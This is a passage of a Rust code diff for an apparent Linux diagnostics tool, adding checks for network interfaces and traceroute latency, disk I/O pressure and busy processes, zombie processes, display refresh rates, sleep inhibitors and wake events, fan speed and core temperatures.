+            level: InsightLevel::Info,
+            message: t!("net_interface_traffic")
+                .replace("{iface}", &iface.name)
+                .replace("{rx}", &format_bytes(iface.rx_bytes))
+                .replace("{tx}", &format_bytes(iface.tx_bytes)),
+        })
+        .collect()
+}
+
+/// IP addresses (without prefix length) from `ip -brief address show dev`
+fn interface_addresses(name: &str) -> Vec<String> {
+    run_cmd_c_locale("ip", &["-brief", "address", "show", "dev", name])
+        .map(|text| {
+            text.split_whitespace()
+                .skip(2)
+                .map(|addr| addr.split('/').next().unwrap_or(addr).to_string())
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+/// Established TCP connections whose local address is one of `addresses`
+fn count_connections_on(ss_output: &str, addresses: &[String]) -> usize {
+    ss_output
+        .lines()
+        .filter_map(|line| line.split_whitespace().nth(2))
+        .filter(|local| {
+            let host = local.rsplit_once(':').map_or(*local, |(host, _)| host);
+            let host = host.trim_start_matches('[').trim_end_matches(']');
+            let host = host.split('%').next().unwrap_or(host);
+            addresses.iter().any(|addr| addr == host)
+        })
+        .count()
+}
+
+fn interface_detail_lines(name: &str, addresses: &[String]) -> Vec<InsightLine> {
+    let mut lines = Vec::new();
+    if addresses.is_empty() {
+        lines.push(InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("net_interface_no_addr").replace("{iface}", name),
+        });
+    } else {
+        lines.push(InsightLine {
+            level: InsightLevel::Info,
+            message: t!("net_interface_addrs").replace("{addrs}", &addresses.join(", ")),
+        });
+    }
+    if let Some(routes) = run_cmd_c_locale("ip", &["route", "show", "dev", name]) {
+        for route in routes.lines().filter(|line| !line.trim().is_empty()) {
+            lines.push(InsightLine {
+                level: InsightLevel::Info,
+                message: t!("net_interface_route").replace("{route}", route.trim()),
+            });
+        }
+    }
+    if let Some(ss) = run_cmd_c_locale("ss", &["-Htn", "state", "established"]) {
+        lines.push(InsightLine {
+            level: InsightLevel::Info,
+            message: t!("net_interface_connections")
+                .replace("{count}", &count_connections_on(&ss, addresses).to_string()),
+        });
+    }
+    lines
+}
+
+/// Hop/time bounds for `--trace` (it sends real packets, so keep it short)
+const TRACE_MAX_HOPS: &str = "15";
+const TRACE_WAIT_SECS: &str = "2";
+/// RTT increase between consecutive hops that counts as a spike
+const TRACE_SPIKE_MS: f32 = 50.0;
+/// Above this, the first hop (LAN/Wi-Fi to the gateway) is the problem
+const TRACE_GATEWAY_SLOW_MS: f32 = 20.0;
+
+/// Hostname or IP literal; rejects anything that could be read as an option
+fn is_valid_trace_host(host: &str) -> bool {
+    !host.is_empty()
+        && host.len() <= 253
+        && !host.starts_with('-')
+        && host
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':'))
+}
+
+#[derive(Clone, Debug, PartialEq)]
+struct TraceHop {
+    hop: u32,
+    address: Option<String>,
+    rtt_ms: Option<f32>,
+}
+
+fn gather_trace(host: &str) -> SectionResult {
+    if is_command_available("traceroute") {
+        let output = run_cmd_with_timeout(
+            "traceroute",
+            &[
+                "-n",
+                "-q",
+                "1",
+                "-w",
+                TRACE_WAIT_SECS,
+                "-m",
+                TRACE_MAX_HOPS,
+                host,
+            ],
+            SLOW_COMMAND_TIMEOUT,
+        )
+        .ok_or_else(|| t!("net_trace_failed").to_string())?;
+        return Ok(trace_insights(&parse_traceroute(&output)));
+    }
+    if is_command_available("ping") {
+        let output = run_cmd_with_timeout(
+            "ping",
+            &["-c", "4", "-W", TRACE_WAIT_SECS, host],
+            SLOW_COMMAND_TIMEOUT,
+        )
+        .ok_or_else(|| t!("net_trace_failed").to_string())?;
+        let rtt = parse_ping_avg_ms(&output).ok_or_else(|| t!("net_trace_failed").to_string())?;
+        return Ok(vec![InsightLine {
+            level: InsightLevel::Info,
+            message: t!("net_trace_ping_only").replace("{rtt}", &format!("{rtt:.1}")),
+        }]);
+    }
+    Err(t!("net_trace_missing").to_string())
+}
+
+/// Per-hop address and average RTT from `traceroute -n` output
+fn parse_traceroute(text: &str) -> Vec<TraceHop> {
+    let mut hops = Vec::new();
+    for line in text.lines() {
+        let mut tokens = line.split_whitespace();
+        let Some(hop) = tokens.next().and_then(|t| t.parse::<u32>().ok()) else {
+            continue;
+        };
+        let mut address = None;
+        let mut rtts = Vec::new();
+        let mut previous: Option<&str> = None;
+        for token in tokens {
+            if token == "ms" {
+                if let Some(value) = previous.and_then(|v| v.parse::<f32>().ok()) {
+                    rtts.push(value);
+                }
+            } else if address.is_none() && token.parse::<std::net::IpAddr>().is_ok() {
+                address = Some(token.to_string());
+            }
+            previous = Some(token);
+        }
+        let rtt_ms = (!rtts.is_empty()).then(|| rtts.iter().sum::<f32>() / rtts.len() as f32);
+        hops.push(TraceHop {
+            hop,
+            address,
+            rtt_ms,
+        });
+    }
+    hops
+}
+
+fn parse_ping_avg_ms(text: &str) -> Option<f32> {
+    // rtt min/avg/max/mdev = 10.1/12.3/15.0/1.2 ms
+    let stats = text.lines().find(|line| line.contains("min/avg/max"))?;
+    let values = stats.split('=').nth(1)?;
+    values.trim().split('/').nth(1)?.parse().ok()
+}
+
+/// Hop list plus gateway-vs-WAN verdict and the largest latency jump
+fn trace_insights(hops: &[TraceHop]) -> Vec<InsightLine> {
+    let mut lines: Vec<InsightLine> = hops
+        .iter()
+        .map(|hop| InsightLine {
+            level: InsightLevel::Info,
+            message: format!(
+                "{:>2}  {:<39} {}",
+                hop.hop,
+                hop.address.as_deref().unwrap_or("*"),
+                hop.rtt_ms
+                    .map(|rtt| format!("{rtt:.1} ms"))
+                    .unwrap_or_else(|| "—".into())
+            ),
+        })
+        .collect();
+
+    if let Some(gateway) = hops.first().and_then(|hop| hop.rtt_ms) {
+        let slow = gateway > TRACE_GATEWAY_SLOW_MS;
+        lines.push(InsightLine {
+            level: if slow {
+                InsightLevel::Warning
+            } else {
+                InsightLevel::Good
+            },
+            message: if slow {
+                t!("net_trace_gateway_slow")
+            } else {
+                t!("net_trace_gateway_ok")
+            }
+            .replace("{rtt}", &format!("{gateway:.1}")),
+        });
+    }
+
+    let responding: Vec<(u32, f32)> = hops
+        .iter()
+        .filter_map(|hop| hop.rtt_ms.map(|rtt| (hop.hop, rtt)))
+        .collect();
+    let spike = responding
+        .windows(2)
+        .map(|pair| (pair[1].0, pair[1].1 - pair[0].1))
+        .max_by(|a, b| a.1.partial_cmp(&b.1).unwrap_or(Ordering::Equal));
+    if let Some((hop, jump)) = spike.filter(|(_, jump)| *jump > TRACE_SPIKE_MS) {
+        lines.push(InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("net_trace_spike")
+                .replace("{hop}", &hop.to_string())
+                .replace("{jump}", &format!("{jump:.0}")),
+        });
+    }
+    lines
+}
+
+fn gather_io_pressure() -> SectionResult {
+    let (some, full) =
+        read_pressure("io").ok_or_else(|| t!("slow_io_pressure_missing").to_string())?;
+    let mut lines = vec![InsightLine {
+        level: InsightLevel::Info,
+        message: format!(
+            "some avg10={:.2}% avg60={:.2}% avg300={:.2}%",
+            some.avg10, some.avg60, some.avg300
+        ),
+    }];
+    if let Some(full) = full {
+        lines.push(InsightLine {
+            level: InsightLevel::Info,
+            message: format!("full avg10={:.2}% avg60={:.2}%", full.avg10, full.avg60),
+        });
+    }
+    lines.push(InsightLine {
+        level: InsightLevel::Info,
+        message: t!("slow_io_pressure_tip").to_string(),
+    });
+    Ok(lines)
+}
+
+/// Zombie children of one parent from which it is reported as not reaping them
+const ZOMBIE_PARENT_WARNING: usize = 5;
+
+/// The fields of `/proc/<pid>/stat` zombie attribution needs
+#[derive(Debug, PartialEq)]
+struct ProcStat {
+    pid: u32,
+    comm: String,
+    state: char,
+    ppid: u32,
+}
+
+/// Parse `pid (comm) state ppid ...`. The comm may itself contain spaces
+/// and parentheses, so it ends at the last `)`.
+fn parse_proc_stat(text: &str) -> Option<ProcStat> {
+    let (head, rest) = text.rsplit_once(')')?;
+    let (pid, comm) = head.split_once(" (")?;
+    let mut fields = rest.split_whitespace();
+    Some(ProcStat {
+        pid: pid.trim().parse().ok()?,
+        comm: comm.to_string(),
+        state: fields.next()?.chars().next()?,
+        ppid: fields.next()?.parse().ok()?,
+    })
+}
+
+fn read_proc_stats() -> Vec<ProcStat> {
+    let Ok(entries) = fs::read_dir("/proc") else {
+        return Vec::new();
+    };
+    entries
+        .flatten()
+        .filter(|entry| {
+            entry
+                .file_name()
+                .to_str()
+                .is_some_and(|name| name.parse::<u32>().is_ok())
+        })
+        // Exited between read_dir and read
+        .filter_map(|entry| fs::read_to_string(entry.path().join("stat")).ok())
+        .filter_map(|text| parse_proc_stat(&text))
+        .collect()
+}
+
+/// Parents of zombie processes as (pid, name, zombie count), most zombies first.
+/// The name is `?` when the parent is not among `stats`.
+fn zombie_parents(stats: &[ProcStat]) -> Vec<(u32, String, usize)> {
+    let mut counts: BTreeMap<u32, usize> = BTreeMap::new();
+    for stat in stats.iter().filter(|stat| stat.state == 'Z') {
+        *counts.entry(stat.ppid).or_default() += 1;
+    }
+    let mut parents: Vec<(u32, String, usize)> = counts
+        .into_iter()
+        .map(|(ppid, count)| {
+            let name = stats
+                .iter()
+                .find(|stat| stat.pid == ppid)
+                .map_or_else(|| "?".to_string(), |stat| stat.comm.clone());
+            (ppid, name, count)
+        })
+        .collect();
+    parents.sort_by_key(|(_, _, count)| std::cmp::Reverse(*count));
+    parents
+}
+
+/// Empty without zombies. A parent holding `ZOMBIE_PARENT_WARNING` or more is
+/// named as the one not reaping them.
+fn zombie_lines(stats: &[ProcStat]) -> Vec<InsightLine> {
+    let parents = zombie_parents(stats);
+    if parents.is_empty() {
+        return Vec::new();
+    }
+    let total: usize = parents.iter().map(|(_, _, count)| count).sum();
+    let mut lines = vec![InsightLine {
+        level: InsightLevel::Info,
+        message: t!("slow_zombie_count").replace("{count}", &total.to_string()),
+    }];
+    for (pid, name, count) in parents {
+        let (level, key) = if count >= ZOMBIE_PARENT_WARNING {
+            (InsightLevel::Warning, "slow_zombie_not_reaping")
+        } else {
+            (InsightLevel::Info, "slow_zombie_parent")
+        };
+        lines.push(InsightLine {
+            level,
+            message: t!(key)
+                .replace("{name}", &name)
+                .replace("{pid}", &pid.to_string())
+                .replace("{count}", &count.to_string()),
+        });
+    }
+    lines
+}
+
+/// Window over which per-process I/O counters are diffed
+const IO_SAMPLE_INTERVAL: Duration = Duration::from_secs(1);
+const IO_TOP_PROCESSES: usize = 5;
+
+#[derive(Clone, Copy, Debug, Default, PartialEq)]
+struct ProcIo {
+    read_bytes: u64,
+    write_bytes: u64,
+}
+
+#[derive(Clone, Debug, PartialEq)]
+struct IoRate {
+    pid: u32,
+    name: String,
+    read_per_sec: f64,
+    write_per_sec: f64,
+}
+
+/// Storage-level `read_bytes`/`write_bytes` from `/proc/<pid>/io` (not
+/// `rchar`/`wchar`, which also count page-cache and pipe traffic)
+fn parse_proc_io(text: &str) -> Option<ProcIo> {
+    let field = |name: &str| {
+        text.lines()
+            .find_map(|line| line.strip_prefix(name)?.strip_prefix(':'))
+            .and_then(|value| value.trim().parse().ok())
+    };
+    Some(ProcIo {
+        read_bytes: field("read_bytes")?,
+        write_bytes: field("write_bytes")?,
+    })
+}
+
+/// `(pid, comm, counters)` of every process, plus how many processes
+/// could not be read (`/proc/<pid>/io` of other users needs root)
+fn read_processes_io() -> (Vec<(u32, String, ProcIo)>, usize) {
+    let mut processes = Vec::new();
+    let mut denied = 0;
+    let Ok(entries) = fs::read_dir("/proc") else {
+        return (processes, denied);
+    };
+    for entry in entries.flatten() {
+        let Some(pid) = entry
+            .file_name()
+            .to_str()
+            .and_then(|name| name.parse::<u32>().ok())
+        else {
+            continue;
+        };
+        let io = match fs::read_to_string(entry.path().join("io")) {
+            Ok(text) => parse_proc_io(&text),
+            Err(err) if err.kind() == std::io::ErrorKind::PermissionDenied => {
+                denied += 1;
+                continue;
+            }
+            // Exited between read_dir and read
+            Err(_) => continue,
+        };
+        let name = fs::read_to_string(entry.path().join("comm"))
+            .map(|comm| comm.trim().to_string())
+            .unwrap_or_else(|_| pid.to_string());
+        if let Some(io) = io {
+            processes.push((pid, name, io));
+        }
+    }
+    (processes, denied)
+}
+
+/// Per-second rates of processes seen in both samples, busiest first.
+/// Processes that did no I/O in the window are dropped.
+fn io_rates(
+    before: &[(u32, String, ProcIo)],
+    after: &[(u32, String, ProcIo)],
+    elapsed: Duration,
+) -> Vec<IoRate> {
+    let seconds = elapsed.as_secs_f64();
+    if seconds <= 0.0 {
+        return Vec::new();
+    }
+    let mut rates: Vec<IoRate> = after
+        .iter()
+        .filter_map(|(pid, name, now)| {
+            let (_, _, then) = before.iter().find(|(old_pid, _, _)| old_pid == pid)?;
+            let read = now.read_bytes.saturating_sub(then.read_bytes);
+            let write = now.write_bytes.saturating_sub(then.write_bytes);
+            (read + write > 0).then(|| IoRate {
+                pid: *pid,
+                name: name.clone(),
+                read_per_sec: read as f64 / seconds,
+                write_per_sec: write as f64 / seconds,
+            })
+        })
+        .collect();
+    rates.sort_by(|a, b| {
+        (b.read_per_sec + b.write_per_sec)
+            .partial_cmp(&(a.read_per_sec + a.write_per_sec))
+            .unwrap_or(Ordering::Equal)
+    });
+    rates
+}
+
+fn io_process_lines(rates: &[IoRate], denied: usize) -> Vec<InsightLine> {
+    let mut lines = Vec::new();
+    let top_by = |rate: fn(&IoRate) -> f64| {
+        rates
+            .iter()
+            .filter(|io| rate(io) > 0.0)
+            .max_by(|a, b| rate(a).partial_cmp(&rate(b)).unwrap_or(Ordering::Equal))
+    };
+    if let Some(writer) = top_by(|io| io.write_per_sec) {
+        lines.push(InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("io_top_writer")
+                .replace("{name}", &writer.name)
+                .replace("{pid}", &writer.pid.to_string())
+                .replace("{rate}", &format_bytes(writer.write_per_sec as u64)),
+        });
+    }
+    if let Some(reader) = top_by(|io| io.read_per_sec) {
+        lines.push(InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("io_top_reader")
+                .replace("{name}", &reader.name)
+                .replace("{pid}", &reader.pid.to_string())
+                .replace("{rate}", &format_bytes(reader.read_per_sec as u64)),
+        });
+    }
+    if rates.is_empty() {
+        lines.push(InsightLine {
+            level: InsightLevel::Good,
+            message: t!("io_processes_idle").to_string(),
+        });
+    }
+    lines.extend(rates.iter().take(IO_TOP_PROCESSES).map(|io| InsightLine {
+        level: InsightLevel::Info,
+        message: format!(
+            "{} {:>7}  R {:>10}/s  W {:>10}/s",
+            fit_column(&io.name, PROCESS_NAME_WIDTH),
+            io.pid,
+            format_bytes(io.read_per_sec as u64),
+            format_bytes(io.write_per_sec as u64)
+        ),
+    }));
+    if denied > 0 {
+        lines.push(InsightLine {
+            level: InsightLevel::Info,
+            message: t!("io_processes_denied").replace("{count}", &denied.to_string()),
+        });
+    }
+    lines
+}
+
+/// Rank processes by disk I/O over `IO_SAMPLE_INTERVAL`
+fn gather_io_processes() -> Vec<InsightLine> {
+    let started = std::time::Instant::now();
+    let (before, _) = read_processes_io();
+    std::thread::sleep(IO_SAMPLE_INTERVAL);
+    let (after, denied) = read_processes_io();
+    io_process_lines(&io_rates(&before, &after, started.elapsed()), denied)
+}
+
+fn why_io() -> Result<()> {
+    print_header(&t!("io_header"));
+    let pressure_header = t!("slow_io_pressure_header").to_string();
+    print_section(&pressure_header, gather_io_pressure());
+    let processes_header = t!("io_processes_header").to_string();
+    print_section(&processes_header, Ok(gather_io_processes()));
+    Ok(())
+}
+
+/// Driver/compositor env tweaks that change frame pacing or input latency
+const DISPLAY_LATENCY_VARS: &[&str] = &[
+    "__GL_SYNC_TO_VBLANK",
+    "vblank_mode",
+    "__GL_YIELD",
+    "__GL_MaxFramesAllowed",
+    "CLUTTER_PAINT",
+];
+
+const COMPOSITOR_PROCESSES: &[&str] = &[
+    "picom",
+    "compton",
+    "kwin_x11",
+    "kwin_wayland",
+    "gnome-shell",
+    "mutter",
+    "sway",
+    "hyprland",
+    "weston",
+];
+
+fn gather_display_latency(metrics: &Metrics) -> SectionResult {
+    let mut lines = Vec::new();
+
+    let session = metrics.wayland_vs_x11.as_deref().unwrap_or("unknown");
+    let compositor = COMPOSITOR_PROCESSES
+        .iter()
+        .find(|name| metrics.process_names.iter().any(|proc| proc == *name))
+        .copied()
+        .unwrap_or("?");
+    lines.push(InsightLine {
+        level: InsightLevel::Info,
+        message: t!("slow_display_session")
+            .replace("{session}", session)
+            .replace("{compositor}", compositor),
+    });
+
+    let env_vars: Vec<(String, String)> = DISPLAY_LATENCY_VARS
+        .iter()
+        .filter_map(|name| env::var(name).ok().map(|value| (name.to_string(), value)))
+        .collect();
+    lines.extend(display_env_insights(&env_vars));
+
+    let refresh = if session == "wayland" && is_command_available("wlr-randr") {
+        run_cmd_c_locale("wlr-randr", &[]).map(|text| parse_wlr_randr_refresh(&text))
+    } else if is_command_available("xrandr") {
+        run_cmd_c_locale("xrandr", &["--current"]).map(|text| parse_xrandr_refresh(&text))
+    } else {
+        None
+    };
+    for output in refresh.unwrap_or_default() {
+        lines.push(refresh_insight(&output));
+    }
+
+    Ok(lines)
+}
+
+/// Interpret latency-related env vars (name, value) into insights
+fn display_env_insights(vars: &[(String, String)]) -> Vec<InsightLine> {
+    let mut lines = Vec::new();
+    for (name, value) in vars {
+        let value = value.trim();
+        let message = match name.as_str() {
+            "__GL_SYNC_TO_VBLANK" if value == "1" => Some((
+                InsightLevel::Warning,
+                t!("slow_display_gl_vsync").to_string(),
+            )),
+            "vblank_mode" if value == "3" => Some((
+                InsightLevel::Warning,
+                t!("slow_display_mesa_vsync").to_string(),
+            )),
+            "__GL_YIELD" => Some((
+                InsightLevel::Info,
+                t!("slow_display_gl_yield").replace("{value}", value),
+            )),
+            "__GL_MaxFramesAllowed" if value.parse::<u32>().map(|n| n > 1).unwrap_or(false) => {
+                Some((
+                    InsightLevel::Warning,
+                    t!("slow_display_frame_queue").replace("{value}", value),
+                ))
+            }
+            "CLUTTER_PAINT" if !value.is_empty() => Some((
+                InsightLevel::Warning,
+                t!("slow_display_clutter_paint").replace("{value}", value),
+            )),
+            _ => None,
+        };
+        if let Some((level, message)) = message {
+            lines.push(InsightLine { level, message });
+        }
+    }
+    lines
+}
+
+#[derive(Clone, Debug, PartialEq)]
+struct OutputRefresh {
+    output: String,
+    current_hz: f32,
+    max_hz: f32,
+}
+
+/// Current vs best refresh per connected output from `xrandr --current`
+fn parse_xrandr_refresh(text: &str) -> Vec<OutputRefresh> {
+    let mut outputs = Vec::new();
+    let mut current: Option<OutputRefresh> = None;
+    for line in text.lines() {
+        if !line.starts_with(char::is_whitespace) {
+            outputs.extend(current.take().filter(|o| o.current_hz > 0.0));
+            let mut parts = line.split_whitespace();
+            if let (Some(name), Some("connected")) = (parts.next(), parts.next()) {
+                current = Some(OutputRefresh {
+                    output: name.to_string(),
+                    current_hz: 0.0,
+                    max_hz: 0.0,
+                });
+            }
+            continue;
+        }
+        let Some(output) = current.as_mut() else {
+            continue;
+        };
+        for token in line.split_whitespace().skip(1) {
+            let Ok(rate) = token.trim_end_matches(['*', '+']).parse::<f32>() else {
+                continue;
+            };
+            if token.contains('*') {
+                output.current_hz = rate;
+            }
+            output.max_hz = output.max_hz.max(rate);
+        }
+    }
+    outputs.extend(current.filter(|o| o.current_hz > 0.0));
+    outputs
+}
+
+/// Same as `parse_xrandr_refresh` for wlroots compositors (`wlr-randr`)
+fn parse_wlr_randr_refresh(text: &str) -> Vec<OutputRefresh> {
+    lazy_static! {
+        static ref MODE_RE: Regex = Regex::new(r"px,\s*([0-9.]+)\s*Hz(.*)").unwrap();
+    }
+    let mut outputs = Vec::new();
+    let mut current: Option<OutputRefresh> = None;
+    for line in text.lines() {
+        if !line.starts_with(char::is_whitespace) {
+            outputs.extend(current.take().filter(|o| o.current_hz > 0.0));
+            if let Some(name) = line.split_whitespace().next() {
+                current = Some(OutputRefresh {
+                    output: name.to_string(),
+                    current_hz: 0.0,
+                    max_hz: 0.0,
+                });
+            }
+            continue;
+        }
+        let (Some(output), Some(cap)) = (current.as_mut(), MODE_RE.captures(line)) else {
+            continue;
+        };
+        let Ok(rate) = cap[1].parse::<f32>() else {
+            continue;
+        };
+        if cap[2].contains("current") {
+            output.current_hz = rate;
+        }
+        output.max_hz = output.max_hz.max(rate);
+    }
+    outputs.extend(current.filter(|o| o.current_hz > 0.0));
+    outputs
+}
+
+/// Flags a panel driven well below its best refresh (e.g. 60Hz on a 144Hz panel)
+fn refresh_insight(output: &OutputRefresh) -> InsightLine {
+    let current = format!("{:.0}", output.current_hz);
+    let max = format!("{:.0}", output.max_hz);
+    if output.max_hz >= 75.0 && output.max_hz - output.current_hz > 5.0 {
+        InsightLine {
+            level: InsightLevel::Warning,
+            message: t!("slow_display_refresh_low")
+                .replace("{output}", &output.output)
+                .replace("{current}", &current)
+                .replace("{max}", &max),
+        }
+    } else {
+        InsightLine {
+            level: InsightLevel::Good,
+            message: t!("slow_display_refresh_ok")
+                .replace("{output}", &output.output)
+                .replace("{current}", &current),
+        }
+    }
+}
+
+fn why_wifi() -> Result<()> {
+    let section = match wifi_networks() {
+        Some(networks) => {
+            let mut lines = vec![InsightLine {
+                level: InsightLevel::Info,
+                message: format!("{} {}", t!("wifi_networks_detected"), networks.len()),
+            }];
+            lines.extend(networks.iter().take(10).map(|net| {
+                let (level, state) = if net.active {
+                    (InsightLevel::Good, t!("wifi_active_label"))
+                } else {
+                    (InsightLevel::Info, t!("wifi_seen_label"))
+                };
+                InsightLine {
+                    level,
+                    message: format!(
+                        "{} | {} | {} dBm",
+                        state,
+                        net.channel
+                            .map(|c| format!("ch {c}"))
+                            .unwrap_or_else(|| t!("wifi_unknown_channel").into()),
+                        net.signal
+                            .map(|s| format!("{s:.0}"))
+                            .unwrap_or_else(|| "?".into())
+                    ),
+                }
+            }));
+            Ok(lines)
+        }
+        None => Err(t!("wifi_nmcli_missing").to_string()),
+    };
+    print_section(&t!("wifi_header"), section);
+    Ok(())
+}
+
+fn why_bluetooth() -> Result<()> {
+    let output = output_with_timeout(Command::new("bluetoothctl").arg("show"), command_timeout());
+    let section = match output {
+        Ok(data) if data.status.success() => Ok(String::from_utf8_lossy(&data.stdout)
+            .lines()
+            .map(|line| InsightLine {
+                level: InsightLevel::Info,
+                message: line.trim().to_string(),
+            })
+            .collect()),
+        _ => Err(t!("bluetooth_missing").to_string()),
+    };
+    print_section(&t!("bluetooth_header"), section);
+    Ok(())
+}
+
+/// A `block` inhibitor held longer than this is worth pointing out
+const INHIBITOR_LONG_HELD: Duration = Duration::from_secs(3600);
+const WAKE_EVENT_LIMIT: usize = 5;
+
+fn why_battery(sys: &System, findings: &[Finding]) -> Result<()> {
+    filter_show("Battery", findings);
+
+    let inhibitors_header = t!("battery_inhibitors_header").to_string();
+    let inhibitors = match run_cmd_c_locale("systemd-inhibit", &["--list", "--no-pager"]) {
+        Some(text) => Ok(inhibitor_lines(sys, &parse_inhibitors(&text))),
+        None => Err(t!("battery_inhibitors_missing").to_string()),
+    };
+    print_section(&inhibitors_header, inhibitors);
+
+    let wake_header = t!("battery_wake_header").to_string();
+    let wakes = match run_cmd_c_locale(
+        "journalctl",
+        &["-k", "--since", "-2days", "--no-pager", "-q"],
+    ) {
+        Some(text) => Ok(wake_events(&text)
+            .into_iter()
+            .map(|line| InsightLine {
+                level: InsightLevel::Info,
+                message: truncate(&line, 110),
+            })
+            .collect()),
+        None => Err(t!("battery_wake_missing").to_string()),
+    };
+    print_section(&wake_header, wakes);
+    Ok(())
+}
+
+#[derive(Clone, Debug, PartialEq)]
+struct Inhibitor {
+    who: String,
+    pid: Option<u32>,
+    what: String,
+    why: String,
+    mode: String,
+}
+
+impl Inhibitor {
+    /// `delay` locks only postpone sleep briefly; `block` ones prevent it
+    fn blocks_sleep(&self) -> bool {
+        self.mode == "block" && (self.what.contains("sleep") || self.what.contains("idle"))
+    }
+}
+
+/// Parse the `systemd-inhibit --list` table. WHO and WHY contain spaces, so
+/// columns are sliced at the header offsets.
+fn parse_inhibitors(text: &str) -> Vec<Inhibitor> {
+    let mut lines = text.lines();
+    let Some(header) = lines.next() else {
+        return Vec::new();
+    };
+    let columns = ["WHO", "UID", "USER", "PID", "COMM", "WHAT", "WHY", "MODE"];
+    let offsets: Vec<usize> = columns
+        .iter()
+        .filter_map(|name| header.find(name))
+        .collect();
+    if offsets.len() != columns.len() {
+        return Vec::new();
+    }
+    lines
+        .take_while(|line| !line.trim().is_empty())
+        .map(|line| {
+            let chars: Vec<char> = line.chars().collect();
+            let field = |idx: usize| -> String {
+                let start = offsets[idx].min(chars.len());
+                let end = offsets
+                    .get(idx + 1)
+                    .map_or(chars.len(), |&end| end.min(chars.len()));
+                chars[start..end]
+                    .iter()
+                    .collect::<String>()
+                    .trim()
+                    .to_string()
+            };
+            Inhibitor {
+                who: field(0),
+                pid: field(3).parse().ok(),
+                what: field(5),
+                why: field(6),
+                mode: field(7),
+            }
+        })
+        .collect()
+}
+
+fn inhibitor_lines(sys: &System, inhibitors: &[Inhibitor]) -> Vec<InsightLine> {
+    let blocking: Vec<&Inhibitor> = inhibitors.iter().filter(|i| i.blocks_sleep()).collect();
+    if blocking.is_empty() {
+        return vec![InsightLine {
+            level: InsightLevel::Good,
+            message: t!("battery_inhibitors_none").to_string(),
+        }];
+    }
+    blocking
+        .into_iter()
+        .map(|inhibitor| {
+            let held = inhibitor
+                .pid
+                .and_then(|pid| sys.process(sysinfo::Pid::from_u32(pid)))
+                .map(|process| Duration::from_secs(process.run_time()))
+                .filter(|held| *held >= INHIBITOR_LONG_HELD);
+            let base = t!("battery_inhibitor")
+                .replace("{who}", &inhibitor.who)
+                .replace("{what}", &inhibitor.what)
+                .replace("{why}", &inhibitor.why);
+            InsightLine {
+                level: InsightLevel::Info,
+                message: match held {
+                    Some(held) => t!("battery_inhibitor_long")
+                        .replace("{inhibitor}", &base)
+                        .replace("{duration}", &human_duration(held)),
+                    None => base,
+                },
+            }
+        })
+        .collect()
+}
+
+/// Most recent kernel lines naming what woke the machine up
+fn wake_events(kernel_log: &str) -> Vec<String> {
+    let mut events: Vec<String> = kernel_log
+        .lines()
+        .filter(|line| {
+            let lower = line.to_ascii_lowercase();
+            lower.contains("waking up from system sleep")
+                || lower.contains("wakeup irq")
+                || lower.contains("pm: wakeup source")
+                || lower.contains("acpi: wakeup")
+        })
+        .map(|line| line.trim().to_string())
+        .collect();
+    let skip = events.len().saturating_sub(WAKE_EVENT_LIMIT);
+    events.drain(..skip);
+    events
+}
+
+fn why_fan(sys: &System, metrics: &Metrics) -> Result<()> {
+    let mut lines = vec![InsightLine {
+        level: InsightLevel::Info,
+        message: match metrics.fan_speed_rpm {
+            Some(speed) => format!("{} {:.0} RPM", t!("fan_speed_label"), speed),
+            None => t!("fan_speed_unknown").to_string(),
+        },
+    }];
+    let mut processes: Vec<_> = sys
+        .processes()
+        .values()
+        .map(|proc| (proc.cpu_usage(), proc.name().to_string()))
+        .collect();
+    processes.sort_by(|a, b| b.0.partial_cmp(&a.0).unwrap_or(Ordering::Equal));
+    lines.extend(
+        processes
+            .into_iter()
+            .take(5)
+            .map(|(usage, name)| InsightLine {
+                level: InsightLevel::Info,
+                message: format!("{}: {usage:.1}% CPU", truncate(&name, PROCESS_NAME_WIDTH)),
+            }),
+    );
+    print_section(&t!("fan_header"), Ok(lines));
+    Ok(())
+}
+
+/// Inter-core spread that hints at uneven paste/cooler contact on one die
+const CORE_TEMP_SPREAD_INFO_C: f32 = 15.0;
+const CORE_GRID_COLUMNS: usize = 4;
+const THERMAL_ZONES_DIR: &str = "/sys/class/thermal";
+/// A zone this close to its own critical trip point is about to shut down
+const TRIP_CRITICAL_MARGIN_C: f32 = 10.0;
+
+fn why_hot(metrics: &Metrics) -> Result<()> {
+    let peak = InsightLine {
+        level: InsightLevel::Info,
+        message: match metrics.temperature_c {
+            Some(temp) => format!("{} {:.1}°C", t!("hot_max_temp"), temp),
+            None => t!("hot_temp_unknown").to_string(),
+        },
+    };
+    print_section(&t!("hot_header"), Ok(vec![peak]));
+
+    let core_temps = run_cmd_c_locale("sensors", &[])
+        .map(|text| parse_core_temps(&text))
+        .unwrap_or_default();
+    let temps_header = t!("hot_core_temps_header").to_string();
+    let temps_section = if core_temps.is_empty() {
+        Err(t!("hot_core_temps_missing").to_string())
+    } else {
+        let cells: Vec<String> = core_temps
+            .iter()
+            .map(|(label, temp)| format!("{label:<8} {temp:>5.1}°C"))
+            .collect();
+        let mut lines = grid_lines(&cells);
+        if let Some(spread) = temperature_spread(&core_temps) {
+            if spread >= CORE_TEMP_SPREAD_INFO_C {
+                lines.push(InsightLine {
+                    level: InsightLevel::Info,
+                    message: t!("hot_core_spread").replace("{spread}", &format!("{spread:.0}")),
+                });
+            }
+        }
+        Ok(lines)
+    };
+    print_section(&temps_header, temps_section);
+
+    let freqs = read_core_freqs_mhz();
+    let freq_header = t!("hot_core_freq_header").to_string();
+    let freq_section = if freqs.is_empty() {
+        Err(t!("hot_core_freq_missing").to_string())
+    } else {
+        let cells: Vec<String> = freqs
+            .iter()
+            .map(|(cpu, mhz)| format!("cpu{cpu:<4} {:>4.2} GHz", mhz / 1000.0))
+            .collect();
+        Ok(grid_lines(&cells))
+    };
+    print_section(&freq_header, freq_section);
+
+    let zones = read_thermal_zones(Path::new(THERMAL_ZONES_DIR));
+    let zones_header = t!("hot_zones_header").to_string();
+    let zones_section = if zones.is_empty() {
+        Err(t!("hot_zones_missing").to_string())
+    } else {
+        Ok(zones.iter().map(thermal_zone_line).collect())
+    };
+    print_section(&zones_header, zones_section);
+    Ok(())
+}
+
+/// A `/sys/class/thermal/thermal_zoneN` reading with its lowest passive
+/// (throttling) and critical (shutdown) trip points
+#[derive(Debug, PartialEq)]
+struct ThermalZone {
